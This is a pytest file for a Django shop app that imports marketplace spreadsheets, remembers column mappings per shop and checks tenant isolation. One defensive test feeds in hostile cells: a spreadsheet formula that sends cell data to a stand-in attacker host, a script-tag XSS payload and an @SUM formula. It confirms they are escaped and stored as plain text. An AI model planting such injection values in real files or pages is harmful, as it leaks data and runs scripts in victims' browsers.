"""Spreadsheets no importer knows: map their columns once, then they import by themselves."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from merdeka.customers.models import Customer, Identity
from merdeka.imports import mapping
from merdeka.imports.formats import mapped
from merdeka.imports.models import ColumnMapping, ImportFile, ImportRun
from merdeka.imports.pipeline import upload_path
from merdeka.orders.models import Order, OrderLine
from merdeka.privacy.models import AuditEvent

OTHER = Path(__file__).parent / "data" / "other"
BUKALAPAK_DEC = OTHER / "bukalapak_transaksi_2024-12.csv"
BUKALAPAK_JAN = OTHER / "bukalapak_transaksi_2025-01.csv"
BLIBLI = OTHER / "blibli_pesanan_2025-01.xlsx"
NOTES = OTHER / "catatan_pelanggan.xlsx"

BUKALAPAK_COLUMNS = {
    "order_id": "ID Transaksi",
    "created_at": "Tanggal Transaksi",
    "status": "Status",
    "username": "Username Pembeli",
    "buyer_name": "Nama Pembeli",
    "buyer_phone": "No. HP Pembeli",
    "product": "Nama Barang",
    "sku": "SKU",
    "quantity": "Jumlah",
    "unit_price": "Harga Satuan",
    "line_total": "Subtotal",
    "shipping_fee": "Ongkos Kirim",
    "order_total": "Total Bayar",
    "recipient": "Nama Penerima",
    "street": "Alamat",
    "city": "Kota",
    "province": "Provinsi",
    "postal_code": "Kode Pos",
}


@pytest.fixture(autouse=True)
def own_uploads(settings, tmp_path):
    """Sealed uploads of this test only (parallel test workers reuse shop and file ids)."""
    settings.DATA_DIR = tmp_path / "data"


@pytest.fixture
def upload(django_capture_on_commit_callbacks):
    """Upload files as the signed-in client; the background import runs at once."""

    def send(client, *paths: Path, names: list[str] | None = None):
        files = [
            SimpleUploadedFile(name, path.read_bytes())
            for name, path in zip(names or [p.name for p in paths], paths, strict=True)
        ]
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("import_home"), {"files": files})
        assert response.status_code == 302, response.content.decode()[:500]
        return ImportRun.unscoped.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))

    return send


def header_of(path: Path) -> list[str]:
    return mapped.read_sheet(path, path.name, samples=0).header


def form_data(path: Path, columns: dict[str, str], *, kind="pesanan", channel="bukalapak"):
    header = header_of(path)
    data = {"jenis": kind, "channel": channel}
    fields = mapped.ORDER_FIELDS if kind == "pesanan" else mapped.CONTACT_FIELDS
    for key, _label in fields:
        data[key] = str(header.index(columns[key])) if key in columns else ""
    return data


def mapping_url(record: ImportFile) -> str:
    return reverse("import_mapping", kwargs={"run_id": record.run_id, "file_id": record.pk})


def only_file(run: ImportRun) -> ImportFile:
    return ImportFile.unscoped.get(run=run)


def map_file(client, record, data, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        return client.post(mapping_url(record), data)


def test_an_unknown_spreadsheet_waits_sealed_for_its_columns_to_be_mapped(
    ika_client, ika_shop, upload, in_shop
):
    run = upload(ika_client, BUKALAPAK_DEC)
    record = only_file(run)
    assert record.state == "mapping"
    assert record.report["mapping"]["signature"] == mapped.header_signature(
        header_of(BUKALAPAK_DEC)
    )
    sealed = upload_path(record).read_bytes()  # kept for the mapping, and only sealed
    assert b"bambang" not in sealed and b"ID Transaksi" not in sealed
    page = ika_client.get(reverse("import_run", kwargs={"run_id": run.pk})).content.decode()
    assert "Menunggu kolomnya dipetakan" in page
    assert "Merdeka belum mengenal kolom-kolom spreadsheet ini" in page
    assert f'href="{mapping_url(record)}"' in page and "Petakan kolom" in page
    assert "Tidak ada data dari file ini yang disimpan" not in page
    with in_shop(ika_shop):
        assert Order.objects.count() == 0 and Customer.objects.count() == 0


def test_the_mapping_page_shows_the_files_columns_with_examples_and_a_first_guess(
    ika_client, upload
):
    record = only_file(upload(ika_client, BUKALAPAK_DEC))
    page = ika_client.get(mapping_url(record)).content.decode()
    assert "Petakan kolom" in page and "bukalapak_transaksi_2024-12.csv" in page
    assert "A · ID Transaksi" in page and "241203TRX001" in page  # a sample, read now
    assert "Bambang Wijaya" in page
    # first guesses are selected, and the channel is guessed from the file name
    assert '<option value="0" selected>A · ID Transaksi' in page
    assert '<option value="bukalapak" selected>Bukalapak</option>' in page
    assert 'aria-current="page" data-testid="kind-orders"' in page


def test_a_seller_maps_a_bukalapak_file_and_its_orders_and_buyers_come_home(
    ika, ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    run = upload(ika_client, BUKALAPAK_DEC)
    record = only_file(run)
    response = map_file(
        ika_client,
        record,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("import_run", kwargs={"run_id": run.pk})
    record.refresh_from_db()
    assert record.state == "imported" and record.source == "mapped"
    report = record.report
    assert (report["rows_read"], report["orders_new"], report["lines_new"]) == (4, 3, 4)
    assert report["customers_new"] == 3
    assert report["mapping"]["remembered"] is False
    assert not upload_path(record).exists()  # gone once mapped and imported
    with in_shop(ika_shop):
        saved = ColumnMapping.objects.get()
        assert (saved.kind, saved.channel, saved.created_by) == ("orders", "bukalapak", ika)
        assert saved.columns == BUKALAPAK_COLUMNS  # column names only, never a cell value
        assert "Bambang" not in json.dumps(saved.columns)
        order = Order.objects.get(external_id="241203TRX001")
        assert (order.channel, order.status, order.total, order.shipping_fee) == (
            "bukalapak",
            "completed",
            358000,
            18000,
        )
        assert order.customer.name == "Bambang Wijaya" and order.city == "Kota Jakarta Pusat"
        assert OrderLine.objects.filter(order=order).count() == 2
        assert Identity.objects.filter(kind="username", channel="bukalapak").count() == 3
        event = AuditEvent.objects.get(action="import.mapping_saved")
        assert event.actor == ika and event.target_id == str(saved.pk)
    page = ika_client.get(response["Location"]).content.decode()
    assert "Kolom disimpan" in page and 'data-testid="mapping-used"' in page
    assert "Kolom dibaca sesuai pemetaanmu" in page
    assert 'data-testid="orders">3 / 0' in page


def test_the_next_file_with_the_same_columns_is_imported_with_the_saved_mapping(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    first = only_file(upload(ika_client, BUKALAPAK_DEC))
    map_file(
        ika_client,
        first,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )

    run = upload(ika_client, BUKALAPAK_JAN)
    record = only_file(run)
    assert record.state == "imported"
    assert record.report["mapping"]["remembered"] is True
    assert (record.report["orders_new"], record.report["customers_new"]) == (2, 1)  # Bambang again
    assert not upload_path(record).exists()
    page = ika_client.get(reverse("import_run", kwargs={"run_id": run.pk})).content.decode()
    assert "Kolom dibaca dengan pemetaan yang tersimpan" in page
    with in_shop(ika_shop):
        assert ColumnMapping.objects.get().last_used_at is not None
        december = Order.objects.get(external_id="241203TRX001")
        january = Order.objects.get(external_id="250106TRX007")
        assert january.customer == december.customer  # the returning buyer, once


def test_waiting_files_with_the_same_columns_are_all_imported_once_one_is_mapped(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    run = upload(ika_client, BUKALAPAK_DEC, BUKALAPAK_JAN)
    first, second = ImportFile.unscoped.filter(run=run).order_by("pk")
    assert (first.state, second.state) == ("mapping", "mapping")
    map_file(
        ika_client,
        first,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.state, second.state) == ("imported", "imported")
    assert not upload_path(second).exists()
    with in_shop(ika_shop):
        assert Order.objects.count() == 5
        assert ImportRun.objects.get().state == "done"


def test_the_cli_imports_a_file_with_a_saved_mapping_and_explains_one_without(
    ika_client, ika_shop, upload, capsys, django_capture_on_commit_callbacks, tmp_path
):
    call_command_args = [str(BUKALAPAK_JAN), "--shop", ika_shop.slug, "--json"]
    with pytest.raises(SystemExit):
        call_command("import", *call_command_args)
    report = json.loads(capsys.readouterr().out)["files"][0]
    assert report["state"] == "rejected"
    assert "Unggah file ini sekali lewat halaman Impor" in report["problems"][0]["message"]

    first = only_file(upload(ika_client, BUKALAPAK_DEC))
    map_file(
        ika_client,
        first,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )
    call_command("import", *call_command_args)
    report = json.loads(capsys.readouterr().out)["files"][0]
    assert (report["state"], report["source"], report["orders_new"]) == ("imported", "mapped", 2)
    assert report["mapping"]["remembered"] is True and report["mapping"]["channel"] == "bukalapak"
    again = tmp_path / "bukalapak_januari_lagi.csv"
    again.write_bytes(BUKALAPAK_JAN.read_bytes())
    call_command("import", str(again), "--shop", ika_shop.slug)  # the readable report
    assert (
        "kolom dibaca dengan pemetaan kolom yang tersimpan (orders, bukalapak)"
        in capsys.readouterr().out
    )


def test_a_blibli_export_is_mapped_with_masked_buyers_kept_out(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(ika_client, BLIBLI))
    assert record.state == "mapping"
    page = ika_client.get(mapping_url(record)).content.decode()
    assert '<option value="blibli" selected>Blibli</option>' in page
    columns = {
        "order_id": "No. Order",
        "created_at": "Tanggal Order",
        "status": "Order Status",
        "buyer_name": "Nama Pemesan",
        "buyer_phone": "No. Tlp",
        "product": "Nama Produk",
        "sku": "SKU",
        "quantity": "Total Barang",
        "unit_price": "Harga item pesanan",
        "line_total": "Total harga item pesanan",
        "order_total": "Total",
        "street": "Alamat",
        "city": "Kota",
        "province": "Provinsi",
    }
    response = map_file(
        ika_client,
        record,
        form_data(BLIBLI, columns, channel="blibli"),
        django_capture_on_commit_callbacks,
    )
    assert response.status_code == 302
    record.refresh_from_db()
    assert record.state == "imported" and record.report["orders_new"] == 3
    with in_shop(ika_shop):
        first = Order.objects.get(external_id="25010412345678")
        assert first.lines.count() == 2 and first.total == 260000
        assert first.ordered_at.isoformat() == "2025-01-04T02:12:00+00:00"  # 09:12 WIB
        masked = Order.objects.get(external_id="25012055550001")
        assert masked.status == "cancelled" and masked.street is None  # "******" is no address
        assert masked.customer is None  # a masked phone identifies nobody


def test_a_sellers_own_customer_notes_are_mapped_as_a_customer_list(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(ika_client, NOTES))
    page = ika_client.get(mapping_url(record)).content.decode()
    assert 'aria-current="page" data-testid="kind-contacts"' in page  # guessed: no order columns
    assert (
        "C · No. WA" in page and "Catatan Pelanggan Dapur" not in page
    )  # the title row is not a column
    data = form_data(
        NOTES, {"name": "Nama", "phone": "No. WA", "email": "Email"}, kind="pelanggan", channel=""
    )
    response = map_file(ika_client, record, data, django_capture_on_commit_callbacks)
    assert response.status_code == 302
    record.refresh_from_db()
    assert record.state == "imported"
    assert (record.report["contacts"], record.report["customers_new"]) == (5, 4)
    problems = {(p["row"], p["severity"]) for p in record.report["problems"]}
    assert (8, "warning") in problems and (10, "warning") in problems  # no number; too short
    with in_shop(ika_shop):
        assert ColumnMapping.objects.get().kind == "contacts"
        names = {c.name for c in Customer.objects.filter(merged_into__isnull=True)}
        assert names == {"Bu Siti Aminah", "Pak Joko", "Mbak Rini", "Dewi"}  # row 9 is Siti again
        rini = next(c for c in Customer.objects.all() if c.name == "Mbak Rini")
        assert rini.identities.filter(kind="phone").count() == 2
        assert Order.objects.count() == 0


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"order_id": ""}, "Pilih kolom yang berisi: Nomor pesanan."),
        (
            {"buyer_phone": "", "username": ""},
            "Pilih minimal satu kolom yang membedakan pembeli",
        ),
        ({"product": "0"}, "Kolom ID Transaksi dipilih untuk Nomor pesanan dan Nama produk"),
        ({"channel": ""}, "Pilih asal pesanan-pesanan ini."),
        ({"status": "99"}, "Kolom yang dipilih tidak ada di file ini."),
    ],
)
def test_a_bad_mapping_is_refused_in_indonesian_and_writes_nothing(
    change, expected, ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(ika_client, BUKALAPAK_DEC))
    data = {**form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS), **change}
    response = map_file(ika_client, record, data, django_capture_on_commit_callbacks)
    assert response.status_code == 400
    page = response.content.decode()
    assert "Tidak ada yang disimpan atau diimpor" in page
    assert expected in page
    record.refresh_from_db()
    assert record.state == "mapping" and upload_path(record).exists()
    with in_shop(ika_shop):
        assert ColumnMapping.objects.count() == 0 and Order.objects.count() == 0
        assert not AuditEvent.objects.filter(action="import.mapping_saved").exists()


def test_a_mapping_that_breaks_rows_says_where_and_is_not_remembered(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(ika_client, BUKALAPAK_DEC))
    columns = {**BUKALAPAK_COLUMNS, "created_at": "Nama Barang", "product": "Tanggal Transaksi"}
    response = map_file(
        ika_client, record, form_data(BUKALAPAK_DEC, columns), django_capture_on_commit_callbacks
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert (
        "baris 2, kolom Nama Barang: Lapis Legit Original bukan tanggal dan jam yang valid." in page
    )
    with in_shop(ika_shop):
        assert ColumnMapping.objects.count() == 0 and Order.objects.count() == 0
    record.refresh_from_db()
    assert record.state == "mapping"


def test_cancelling_a_mapping_refuses_the_file_and_deletes_the_sealed_upload(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(ika_client, BUKALAPAK_DEC))
    sealed = upload_path(record)
    assert sealed.exists()
    url = reverse("import_mapping_cancel", kwargs={"run_id": record.run_id, "file_id": record.pk})
    assert ika_client.get(url).status_code == 405
    with django_capture_on_commit_callbacks(execute=True):
        response = ika_client.post(url)
    assert response.status_code == 302
    record.refresh_from_db()
    assert record.state == "rejected" and not sealed.exists()
    page = ika_client.get(response["Location"]).content.decode()
    assert "Kamu membatalkan pemetaan kolom" in page
    # the page of a file that no longer waits sends the seller back to the report
    assert ika_client.get(mapping_url(record)).status_code == 302
    with in_shop(ika_shop):
        assert AuditEvent.objects.filter(action="import.mapping_cancelled").count() == 1


def test_a_mapping_never_crosses_to_another_shop(
    ika_client,
    ika_shop,
    citra,
    citra_shop,
    client,
    upload,
    in_shop,
    django_capture_on_commit_callbacks,
):
    ika_file = only_file(upload(ika_client, BUKALAPAK_DEC))
    ika_data = form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS)
    map_file(ika_client, ika_file, ika_data, django_capture_on_commit_callbacks)
    second = only_file(upload(ika_client, BUKALAPAK_JAN, names=["lagi.csv"]))
    waiting = only_file(upload(ika_client, NOTES))

    client.force_login(citra)
    citra_run = upload(client, BUKALAPAK_JAN)
    citra_file = only_file(citra_run)
    assert citra_file.state == "mapping"  # Ika's mapping is not Citra's
    assert second.state == "imported"
    # Ika's waiting file, by its own ids or dressed in Citra's run id
    for run_id in (waiting.run_id, citra_run.pk):
        url = reverse("import_mapping", kwargs={"run_id": run_id, "file_id": waiting.pk})
        assert client.get(url).status_code == 404
        assert client.post(url, ika_data).status_code == 404
        cancel = reverse("import_mapping_cancel", kwargs={"run_id": run_id, "file_id": waiting.pk})
        assert client.post(cancel).status_code == 404
    waiting.refresh_from_db()
    assert waiting.state == "mapping" and upload_path(waiting).exists()
    with in_shop(citra_shop):
        assert ColumnMapping.objects.count() == 0
        signature = mapped.header_signature(header_of(BUKALAPAK_DEC))
        assert mapping.mapping_find(shop=citra_shop, signature=signature) is None
    with in_shop(ika_shop):
        assert ColumnMapping.objects.count() == 1


def test_hostile_cells_are_shown_escaped_and_stored_as_plain_text(
    ika_client, ika_shop, upload, in_shop, tmp_path, django_capture_on_commit_callbacks
):
    path = tmp_path / "catatan_pesanan.csv"
    path.write_text(
        "Nomor;Tanggal;Pembeli;HP;Barang;Harga\n"
        'N-1;2025-02-01;=HYPERLINK("http://jahat.example/?d="&A1,"klik");081299990001;'
        "<script>alert(1)</script>;Rp50.000\n"
        "N-2;2025-02-02;@SUM(1+1);081299990002;Bolu <b>pandan</b>;Rp40.000\n",
        encoding="utf-8",
    )
    record = only_file(upload(ika_client, path))
    page = ika_client.get(mapping_url(record)).content.decode()
    assert (
        "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    )
    columns = {
        "order_id": "Nomor",
        "created_at": "Tanggal",
        "buyer_name": "Pembeli",
        "buyer_phone": "HP",
        "product": "Barang",
        "unit_price": "Harga",
    }
    response = map_file(
        ika_client,
        record,
        form_data(path, columns, channel="manual"),
        django_capture_on_commit_callbacks,
    )
    assert response.status_code == 302
    with in_shop(ika_shop):
        customer = Order.objects.get(external_id="N-1").customer
        assert customer.name == '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
        assert OrderLine.objects.get(order__external_id="N-1").name == "<script>alert(1)</script>"
        assert Order.objects.get(external_id="N-2").channel == "manual"
    detail = ika_client.get(reverse("customer_detail", kwargs={"customer_id": customer.pk}))
    body = detail.content.decode()
    assert "<script>alert(1)</script>" not in body and "&lt;script&gt;" in body


def test_a_spreadsheet_without_column_names_is_explained(ika_client, upload, tmp_path):
    path = tmp_path / "nomor.csv"
    path.write_text("Siti,081234567801\nJoko,085711223344\n", encoding="utf-8")
    record = only_file(upload(ika_client, path))
    assert record.state == "rejected"
    assert "tidak berisi nama kolom" in record.report["problems"][0]["message"]
    assert not upload_path(record).exists()


def test_staff_can_map_columns_too(
    rina_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    record = only_file(upload(rina_client, BUKALAPAK_DEC))
    response = map_file(
        rina_client,
        record,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )
    assert response.status_code == 302
    with in_shop(ika_shop):
        assert ColumnMapping.objects.get().created_by.username == "rina"


def test_a_mapped_file_is_imported_once_even_if_its_task_runs_again(
    ika_client, ika_shop, upload, in_shop, django_capture_on_commit_callbacks
):
    from merdeka.imports.pipeline import file_process

    record = only_file(upload(ika_client, BUKALAPAK_DEC))
    data = form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS)
    map_file(ika_client, record, data, django_capture_on_commit_callbacks)
    file_process(file_id=record.pk)  # a second worker picking up the same task
    record.refresh_from_db()
    assert record.state == "imported" and record.report["orders_new"] == 3
    with in_shop(ika_shop):
        assert Order.objects.count() == 3
    # and a second save of the same page finds nothing waiting any more
    assert map_file(ika_client, record, data, django_capture_on_commit_callbacks).status_code == 302


def test_inspect_reads_an_unknown_spreadsheet_with_the_shops_saved_mapping(
    ika_client, ika_shop, citra_shop, upload, capsys, in_shop, django_capture_on_commit_callbacks
):
    call_command("inspect", str(BUKALAPAK_JAN), "--shop", ika_shop.slug, "--json")
    before = json.loads(capsys.readouterr().out)
    assert before["rejected"] is True
    assert "Unggah file ini sekali lewat halaman Impor" in before["problems"][0]["message"]

    first = only_file(upload(ika_client, BUKALAPAK_DEC))
    map_file(
        ika_client,
        first,
        form_data(BUKALAPAK_DEC, BUKALAPAK_COLUMNS),
        django_capture_on_commit_callbacks,
    )
    with in_shop(ika_shop):
        orders_before = Order.objects.count()
    call_command("inspect", str(BUKALAPAK_JAN), "--shop", ika_shop.slug, "--json")
    seen = json.loads(capsys.readouterr().out)
    assert (seen["source"], seen["channel"]) == ("mapped", "bukalapak")
    assert seen["mapping"]["kind"] == "orders" and seen["mapping"]["channel"] == "bukalapak"
    assert len(seen["orders"]) == 2 and all(order["lines"] for order in seen["orders"])
    with in_shop(ika_shop):
        assert Order.objects.count() == orders_before  # inspecting writes nothing

    call_command("inspect", str(BUKALAPAK_JAN), "--shop", ika_shop.slug)
    assert "Read with the saved column mapping (orders, bukalapak)" in capsys.readouterr().out
    # another shop's mapping is not used
    call_command("inspect", str(BUKALAPAK_JAN), "--shop", citra_shop.slug, "--json")
    assert json.loads(capsys.readouterr().out)["rejected"] is True
    with pytest.raises(CommandError):
        call_command("inspect", str(BUKALAPAK_JAN), "--shop", "tidak-ada")
